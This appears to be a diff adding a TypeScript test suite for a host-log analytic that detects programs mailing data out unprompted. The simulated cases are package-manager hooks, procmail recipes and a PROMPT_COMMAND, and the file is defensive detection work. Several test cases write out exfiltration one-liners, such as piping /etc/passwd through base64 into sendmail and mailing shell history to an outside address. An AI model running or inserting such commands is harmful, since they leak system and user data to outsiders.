@@ -1,0 +1,116 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
+import { HostLog, SECOND } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
+import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';
+
+/** What programs send that nobody ordered where they were started: by their settings, by the recipes of a mailbox, by a shell itself. */
+
+const TO = 'drop@example.net';
+
+/** Severity and factors of what AN0380 tells; null when it tells nothing. */
+async function told(log: HostLog): Promise<{ severity: string; factors: readonly string[] } | null> {
+  const found = (await scanLog(log)).filter(({ analytic }) => analytic === 'AN0380');
+  assert.ok(found.length <= 1, `${found.length} stories`);
+  const [alert] = found;
+  return alert === undefined ? null : { severity: alert.severity, factors: alert.factors.map(({ name }) => name) };
+}
+
+const HOOK = 'started by a hook, not by the person';
+const PACKED = 'packed or encoded data in the pipeline';
+
+function packs(shell: Process, log: HostLog, to = TO): void {
+  const [group, mail] = [shell.fork(), shell.fork()];
+  mail.exec(`/usr/sbin/sendmail -f root@example.org ${to}`);
+  group.run('/usr/bin/cat /etc/passwd');
+  group.run('/usr/bin/openssl base64');
+  log.submitted('root', to, 40_000);
+}
+
+function administrator(): { log: HostLog; apt: Process } {
+  const log = new HostLog();
+  log.deliver();
+  const shell = log.shell('ops');
+  const apt = shell.run('/usr/bin/sudo apt-get install page-b').run('/usr/bin/apt-get install page-b', {
+    who: { ...shell.who, uid: 0 },
+  });
+  return { log, apt };
+}
+
+test('a hook of a package manager packs something and mails it out: nobody at the terminal ordered that', async () => {
+  const { log, apt } = administrator();
+  packs(apt.run(['/bin/sh', '-c', '(cat /etc/passwd | openssl base64) | sendmail x']), log);
+  const found = await told(log);
+  assert.equal(found?.severity, 'medium');
+  assert.ok(found?.factors.includes(HOOK) && found.factors.includes(PACKED), found?.factors.join());
+});
+
+test('the copy of a package manager that becomes the shell is not on record: the program before it was its child', async () => {
+  const { log, apt } = administrator();
+  for (let i = 0; i < 20; i++) apt.run('/usr/bin/dpkg --print-foreign-architectures');
+  packs(apt.fork().run(['/bin/sh', '-c', '(cat /etc/passwd | openssl base64) | sendmail x']), log);
+  assert.ok((await told(log))?.factors.includes(HOOK));
+});
+
+test('a hook that mails a note to the administrator is what such hooks do', async () => {
+  const { log, apt } = administrator();
+  apt.run(['/bin/sh', '-c', '/usr/bin/apt-listchanges --apt']).run('/usr/sbin/sendmail root@example.org');
+  log.submitted('root', 'root@example.org', 2000);
+  const found = await told(log);
+  assert.ok(found === null || found.severity === 'informational', JSON.stringify(found));
+});
+
+/** A delivery agent runs a recipe of the mailbox's owner. */
+function recipe(line: string): { log: HostLog; shell: Process } {
+  const log = new HostLog();
+  log.deliver();
+  const agent = log.service('/usr/lib/postfix/sbin/local -t unix').run('/usr/bin/procmail -a');
+  const shell = agent.run(['/bin/sh', '-c', line], { who: { ...agent.who, uid: log.shell('clerk').who.uid } });
+  return { log, shell };
+}
+
+test('a recipe that answers a message with a file of its own, encoded, is a job of its owner', async () => {
+  const { log, shell } = recipe('(echo; base64 contracts/c1.txt) | sendmail -t');
+  for (let i = 0; i < 3; i++) {
+    const [group, mail] = [shell.fork(), shell.fork()];
+    group.run('/usr/bin/base64 /home/clerk/contracts/c1.txt');
+    mail.exec(`/usr/sbin/sendmail -oi ${TO}`);
+    log.submitted('clerk', TO, 3000);
+    log.wait(10 * SECOND);
+  }
+  const found = await told(log);
+  assert.equal(found?.severity, 'medium');
+  assert.ok(found?.factors.includes(PACKED));
+});
+
+test('a recipe that only answers is mail software at its work', async () => {
+  const { log, shell } = recipe('formail -r | sendmail -t');
+  const [answer, mail] = [shell.fork(), shell.fork()];
+  answer.exec('/usr/bin/formail -r');
+  mail.exec(`/usr/sbin/sendmail -oi ${TO}`);
+  log.submitted('clerk', TO, 3000);
+  assert.equal(await told(log), null);
+});
+
+const BESIDE = 'again and again, beside somebody at a terminal';
+
+/** `PROMPT_COMMAND='(history 2 | mail … &)'`: each is an orphan of a terminal. */
+async function prompts(times: number, to: string, gap = 2 * SECOND): Promise<readonly string[]> {
+  const log = new HostLog();
+  log.deliver();
+  const shell = log.shell('clerk');
+  for (let i = 0; i < times; i++) {
+    shell.run('/usr/bin/ls');
+    shell.fork().orphan().exec(`/usr/bin/mail -s x ${to}`).run('/usr/sbin/sendmail -i');
+    log.submitted('clerk', to, 500);
+    log.wait(gap + i * 700);
+  }
+  return (await told(log))?.factors ?? [];
+}
+
+test('orphans of a terminal send one message after the other to somebody outside: the shell does it by itself', async () => {
+  assert.ok((await prompts(4, TO)).includes(BESIDE));
+  assert.ok(!(await prompts(2, TO)).includes(BESIDE), 'twice');
+  assert.ok(!(await prompts(4, 'buyer@example.org')).includes(BESIDE), 'to somebody inside');
+  assert.ok(!(await prompts(4, TO, 900 * SECOND)).includes(BESIDE), 'now and then');
+});
